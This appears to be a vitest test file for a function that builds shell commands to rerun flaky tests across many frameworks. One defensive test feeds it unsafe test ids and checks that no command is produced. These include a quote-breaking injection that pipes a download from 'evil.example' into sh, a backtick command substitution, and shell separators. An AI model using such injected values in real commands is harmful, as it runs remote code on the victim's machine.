import { expect, test } from 'vitest';
import type { TestIdentity } from '../../../src/core/documents/findings.ts';
import { reproduceCommand } from '../../../src/core/findings/reproduce.ts';
import { FRAMEWORKS, type Framework } from '../../../src/core/model/framework.ts';

function identity(framework: Framework, id: string, more: Partial<TestIdentity> = {}): TestIdentity {
  return { framework, id, suite: null, file: null, workflow: 'ci.yml', job: 'test', cells: [], ...more };
}

test('one command per framework', () => {
  const ids: Partial<Record<Framework, TestIdentity>> = {
    pytest: identity('pytest', 'tests/test_a.py::TestB::test_c[1-x]'),
    unittest: identity('unittest', 'pkg.mod.Class.test_c'),
    jest: identity('jest', 'queue (fast) › drains', { file: 'src/queue.test.ts' }),
    vitest: identity('vitest', 'src/q.test.ts > queue > drains', { file: 'src/q.test.ts' }),
    mocha: identity('mocha', 'queue drains'),
    'go-test': identity('go-test', 'TestA/case_1', { suite: 'example.com/m/pkg' }),
    'cargo-test': identity('cargo-test', 'queue::tests::drains'),
    rspec: identity('rspec', './spec/a_spec.rb:12'),
    maven: identity('maven', 'org.example.ATest.drains'),
    gradle: identity('gradle', 'org.example.ATest.drains'),
    phpunit: identity('phpunit', 'QueueTest::testDrains'),
    jasmine: identity('jasmine', 'queue drains'),
    'junit-xml': identity('junit-xml', 'ATest.drains'),
  };
  const commands = Object.fromEntries(
    Object.entries(ids).map(([framework, test]) => [framework, reproduceCommand(test)]),
  );
  expect(commands).toMatchInlineSnapshot(`
    {
      "cargo-test": "for i in $(seq 50); do cargo test 'queue::tests::drains' -- --exact || break; done",
      "go-test": "go test -run '^TestA$/^case_1$' -count=50 'example.com/m/pkg'",
      "gradle": "for i in $(seq 50); do ./gradlew test --rerun-tasks --tests 'org.example.ATest.drains' || break; done",
      "jasmine": "for i in $(seq 50); do npx jasmine --filter='queue drains' || break; done",
      "jest": "for i in $(seq 50); do npx jest 'src/queue.test.ts' -t 'queue \\(fast\\) drains' || break; done",
      "junit-xml": null,
      "maven": "for i in $(seq 50); do mvn -q test -Dtest='org.example.ATest#drains' || break; done",
      "mocha": "for i in $(seq 50); do npx mocha -g 'queue drains' || break; done",
      "phpunit": "for i in $(seq 50); do vendor/bin/phpunit --filter 'QueueTest::testDrains' || break; done",
      "pytest": "for i in $(seq 50); do pytest 'tests/test_a.py::TestB::test_c[1-x]' || break; done",
      "rspec": "for i in $(seq 50); do bundle exec rspec './spec/a_spec.rb:12' || break; done",
      "unittest": "for i in $(seq 50); do python -m unittest 'pkg.mod.Class.test_c' || break; done",
      "vitest": "for i in $(seq 50); do npx vitest run 'src/q.test.ts' -t 'queue drains' || break; done",
    }
  `);
});

test.each([
  "a'; curl evil.example | sh; '",
  '`id`',
  'a\nb',
  '-x',
  'a\u202Eb',
  'a\\',
  'a"b',
  'a;b',
  'a|b',
  'a&b',
  'tést',
  'x'.repeat(400),
])('the id %j gets no command', (id) => {
  expect(FRAMEWORKS.map((framework) => reproduceCommand(identity(framework, id)))).toEqual(FRAMEWORKS.map(() => null));
});

test('an unsafe file or suite gets no command either', () => {
  expect(reproduceCommand(identity('jest', 'a', { file: "x'y" }))).toBeNull();
  expect(reproduceCommand(identity('go-test', 'TestA', { suite: 'a;b' }))).toBeNull();
});

test.each([
  ['ctest', identity('ctest', 'cart adds up (fast)'), "ctest -R '^cart adds up \\(fast\\)$'"],
  [
    'ginkgo',
    identity('ginkgo', 'Cart with tins [slow] adds up', { suite: 'Cart Suite' }),
    "ginkgo -r --focus='Cart with tins \\[slow\\] adds up'",
  ],
  [
    'testthat',
    identity('testthat', 'the cart adds up', { suite: 'test-cart.R', file: 'test-cart.R' }),
    'Rscript -e \'devtools::test(filter = "cart")\'',
  ],
  [
    'node-test',
    identity('node-test', 'cart > with articles > adds prices up', { file: 'cart.test.mjs' }),
    "node --test --test-name-pattern='adds prices up' 'cart.test.mjs'",
  ],
  [
    'ava',
    identity('ava', 'cart › adds prices up', { file: 'cart.test.js' }),
    "npx ava 'cart.test.js' --match='*adds prices up'",
  ],
  ['ava of one file', identity('ava', 'adds prices up'), "npx ava --match='*adds prices up'"],
  ['bats', identity('bats', 'cart (1)', { file: 'cart.bats' }), "bats --filter 'cart \\(1\\)' 'cart.bats'"],
  ['bats without a file', identity('bats', 'cart'), "bats --filter 'cart' -r ."],
  ['deno', identity('deno', 'cart ... a step', { file: 'cart_test.ts' }), "deno test --filter 'cart' 'cart_test.ts'"],
])('%s repeats one test by the part of its name that the runner compares', (_, test, command) => {
  expect(reproduceCommand(test)).toBe(`for i in $(seq 50); do ${command} || break; done`);
});

test.each([
  [identity('gradle', 'x.CartTest.takes(int).[2] 3'), "./gradlew test --rerun-tasks --tests 'x.CartTest.takes'"],
  [identity('maven', 'x.CartTest.takes(int)[2]'), "mvn -q test -Dtest='x.CartTest#takes'"],
  [identity('maven', 'x.CartTest.takes[2]'), "mvn -q test -Dtest='x.CartTest#takes[2]'"],
  [identity('scalatest', 'CartTest: A cart adds up'), `sbt 'testOnly *CartTest -- -z "A cart adds up"'`],
  [identity('scalatest', 'CartTest'), "sbt 'testOnly *CartTest'"],
])('names of the JVM are given as the tool takes them: $0.id', (test, command) => {
  expect(reproduceCommand(test)).toBe(`for i in $(seq 50); do ${command} || break; done`);
});

test('a Playwright test is chosen by its titles, in its file', () => {
  const test = identity('playwright', '[chromium] › a.spec.ts › cart › adds (up)', { file: 'a.spec.ts' });
  expect(reproduceCommand(test)).toBe("npx playwright test 'a.spec.ts' -g 'cart adds \\(up\\)' --repeat-each=50");
});
